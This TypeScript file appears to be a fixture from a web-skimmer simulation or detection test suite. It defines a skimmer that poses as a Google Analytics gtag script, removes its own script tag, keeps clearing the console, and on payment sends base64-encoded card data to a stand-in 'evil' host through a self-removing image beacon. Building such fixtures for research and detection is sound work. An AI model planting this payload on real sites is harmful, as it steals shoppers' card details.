import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'removes-traces',
  why: 'Takes its own script element out of the page, clears the console, and takes its picture away once sent (5 of 88 samples each).',
  covers: ['disguise: console', 'disguise: removes traces', 'disguise: known brand', 'injection: loader'],
  base: 'direct',
  install: (site) => {
    site.serve('evil/gtag/js', {
      headers: { 'content-type': 'text/javascript' },
      body: js`document.currentScript.remove();
setInterval(function () { console.clear(); }, 200);
${onPay(js`
    var i = document.createElement('img');
    i.onload = i.onerror = function () { i.remove(); };
    i.src = '${site.origins.evil}/collect?v=2&d=' + encodeURIComponent(btoa(card()));
    document.body.append(i);`)}`,
    });
    site.markup(
      `<script src="${site.origins.evil.replace('evil', 'google-analytics.evil')}/gtag/js"></script>`,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
